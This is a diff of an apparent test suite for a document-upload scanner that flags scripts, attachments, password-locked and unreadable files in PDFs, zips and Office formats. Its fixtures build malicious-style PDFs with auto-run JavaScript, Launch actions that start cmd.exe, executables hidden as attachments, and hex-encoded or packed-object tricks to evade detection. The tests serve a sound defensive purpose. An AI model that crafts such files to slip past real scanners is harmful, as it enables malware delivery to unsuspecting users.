-          '<< /Type /Filespec /F (a.exe) /E#46 << /F 11 0 R >> >>',
-          '<< /Length 2 >>\nstream\nMZ\nendstream',
-        ),
-    ],
-    [
-      'a PDF with a script that opens its page',
-      ['script'],
-      () => pdfPage(`/AA << /O ${SCRIPT} >>`),
-    ],
-    [
-      'a PDF with a script in a field of a page',
-      ['script'],
-      () =>
-        pdfPage(
-          '/Annots [12 0 R]',
-          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /U ${SCRIPT} >> >>`,
-        ),
-    ],
-    [
-      'a PDF with a script behind a link, with an encoded name',
-      ['script'],
-      () =>
-        pdfPage(
-          '/Annots [12 0 R]',
-          '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#4aavaScript /JS (app.alert\\(1\\)) >> >>',
-        ),
-    ],
-    ['an empty document inside a zip', [], () => zipOf({ 'a.doc': '' }), 'a.zip'],
-    ['a PDF that opens with a script', ['script'], () => pdfOf('/OpenAction 10 0 R', SCRIPT)],
-    [
-      'a PDF with a script in its names',
-      ['script'],
-      () => pdfOf('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', SCRIPT),
-    ],
-    [
-      'a PDF with an attached file',
-      ['attachment'],
-      () =>
-        pdfOf(
-          '/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>',
-          '<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>',
-          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
-        ),
-    ],
-    [
-      'a PDF with a file in a note on its second page',
-      ['attachment'],
-      () =>
-        pdfOf(
-          '/Pages 10 0 R',
-          '<< /Type /Pages /Kids [3 0 R 11 0 R] /Count 2 >>',
-          '<< /Type /Page /Parent 10 0 R /MediaBox [0 0 200 200] /Annots [12 0 R] >>',
-          '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 13 0 R >>',
-          '<< /Type /Filespec /F (a.exe) /EF << /F 14 0 R >> >>',
-          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
-        ),
-    ],
-    [
-      'a PDF that starts a program',
-      ['script'],
-      () => pdfOf('/OpenAction 10 0 R', '<< /S /L#61unch /F (cmd.exe) >>'),
-    ],
-    [
-      'a PDF that starts a program, with an encoded name',
-      ['script'],
-      () => pdfOf('/OpenAction 10 0 R', '<< /S /#4c#61#75#6E#63#68#20/F (cmd.exe) >>'),
-    ],
-    [
-      'a PDF with names that only begin like that action',
-      [],
-      () =>
-        pdfOf('', '<< /Launcher 1 /#4c#61#75#6e#63#68#65#64 2 /Lunch 3 /L 4 /L#zzunch /#4 >>/#'),
-    ],
-    [
-      'a PDF that starts a program, by a packed object',
-      ['script'],
-      () => pdfOf('', packed('10 0 << /S /Launch /F (cmd.exe) >>')),
-    ],
-    [
-      'a PDF that starts a program, by the second of its packed objects',
-      ['script'],
-      () => {
-        const first = packed('10 0 << /Type /Page >>');
-        const second = packed('10 0 << /S /Launch /F (cmd.exe) >>');
-        const named = `/Title (about /ObjStm)${' '.repeat(5000)}`;
-        return pdfOf('', `${named}\n${first}\n${second}`);
-      },
-    ],
-    [
-      'a PDF that starts a program, by a packed object with an encoded type',
-      ['script'],
-      () =>
-        pdfOf('', packed('10 0 << /S /Launch /F (cmd.exe) >>').replace('/ObjStm', '/#4fbj#53tm')),
-    ],
-    [
-      'a PDF with a packed object whose dictionary is long',
-      ['unreadable'],
-      () => pdfOf('', packed('10 0 << /S /Launch >>').replace('/N 1', `/N 1${' '.repeat(2000)}`)),
-    ],
-    [
-      'a PDF with a packed object that is compressed in another way',
-      ['unreadable'],
-      () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\nLaunch?\nendstream'),
-    ],
-    [
-      'a PDF with an object stream that is not compressed',
-      [],
-      () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\n10 0 << /A 1 >>\nendstream'),
-    ],
-    [
-      'a PDF with a form that has scripts of its own (XFA)',
-      ['script'],
-      () =>
-        pdfOf(
-          '/AcroForm << /XFA 10 0 R /Fields [] >>',
-          '<< /Length 6 >>\nstream\n<xdp/>\nendstream',
-        ),
-    ],
-    [
-      'a PDF whose packed objects exceed the limit',
-      ['unreadable'],
-      () => pdfOf('', packed(zeros(20)).repeat(3)),
-    ],
-    [
-      'a PDF full of streams without an end',
-      [],
-      () => pdfOf('', '/ObjStm stream\n'.repeat(1_000_000)),
-    ],
-    ['a damaged PDF', ['unreadable'], () => Buffer.from('%PDF-1.7\n')],
-    ['a zip with a password', ['password'], lockedZip, 'a.zip'],
-    ['a damaged zip', ['unreadable'], () => Buffer.from('PK\u0003\u0004'), 'a.zip'],
-    [
-      'a PDF with a script inside a zip',
-      ['script'],
-      async () => zipOf({ 'a.pdf': pdfOf('/OpenAction 10 0 R', SCRIPT) }),
-      'a.zip',
-    ],
-  ])('%s', async (_, marks, content, name = 'a.pdf') => {
-    expect(await inspect(name, await content())).toEqual({ rejected: null, marks });
-  });
-});
-
-describe('an inspection accepts without a mark', () => {
-  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
-    ['a PDF', () => pdfOf(), 'a.pdf'],
-    ['a Word document', () => zipOf(document), 'a.docx'],
-    [
-      'a Word document with links and a chart',
-      async () =>
-        zipOf({
-          ...document,
-          'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.eu'),
-          'word/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/a.xlsx', ''),
-          'word/embeddings/a.xlsx': await zipOf({ 'xl/workbook.xml': '<workbook/>' }),
-          'word/footer1.xml': '<w:instrText> PAGE </w:instrText>',
-        }),
-      'a.docx',
-    ],
-    ['an old Word document', () => compoundFile(wordStreams()), 'a.doc'],
-    [
-      'an old workbook inside a zip',
-      () => zipOf({ 'a.xls': compoundFile({ '/Workbook': workbookOf(0) }) }),
-      'a.zip',
-    ],
-    [
-      'a document of LibreOffice with links and a picture inside a zip',
-      async () =>
-        zipOf({
-          'a.odt': await zipOf({
+      ['with an empty document', zipWith({ 'a.doc': '' })],
+      ['with an old workbook', zipWith({ 'a.xls': workbookOf(0) })],
+      [
+        'with a document of LibreOffice with links and a picture',
+        zipWith({
+          'a.odt': zipWith({
             'content.xml':
               '<text:a xlink:type="simple" xlink:href="https://example.eu">a</text:a><draw:image xlink:href="Pictures/a.png"/>',
           }),
         }),
-      'a.zip',
+      ],
+      [
+        'of files whose names only contain an extension of programs',
+        zipWith({ 'example.com/letter.txt': 'a', 'a.exe.txt': 'a', 'a.so.2026.png': 'a' }),
+      ],
+      ['of pictures', zipWith({ 'a.png': () => text, 'folder/b..png': () => text })],
+      ['of text that packs well', zipWith({ 'a.txt': () => zeros(19) })],
+      ['with a zip', zipWith({ 'a.zip': zipWith({ 'a.txt': 'a' }) })],
     ],
-    [
-      'a zip of files whose names only contain an extension of programs',
-      () => zipOf({ 'example.com/letter.txt': 'a', 'a.exe.txt': 'a', 'a.so.2026.png': 'a' }),
-      'a.zip',
-    ],
-    ['a zip of pictures', () => zipOf({ 'a.png': text, 'folder/b..png': text }), 'a.zip'],
-    ['a zip of text that packs well', () => zipOf({ 'a.txt': zeros(19) }), 'a.zip'],
-    ['a zip in a zip', async () => zipOf({ 'a.zip': await zipOf({ 'a.txt': 'a' }) }), 'a.zip'],
-    ['a RAR archive', () => rarOf({ name: 'a.png', content: text }), 'a.rar'],
-  ])('%s', async (_, content, name) => {
-    expect(await inspect(name, await content())).toEqual({ rejected: null, marks: [] });
-  });
+  },
+};
+
+it.each(
+  Object.entries(marked).flatMap(([marks, files]) =>
+    Object.entries(files).flatMap(([name, cases]) =>
+      cases.map(([about, content]) => ({ marks, name, about, content })),
+    ),
+  ),
+)('an inspection marks as «$marks» $name $about', async ({ marks, name, content }) => {
+  const expected = marks.split(' ').filter(Boolean);
+  expect(await inspect(name, await content())).toEqual({ rejected: null, marks: expected });
 });
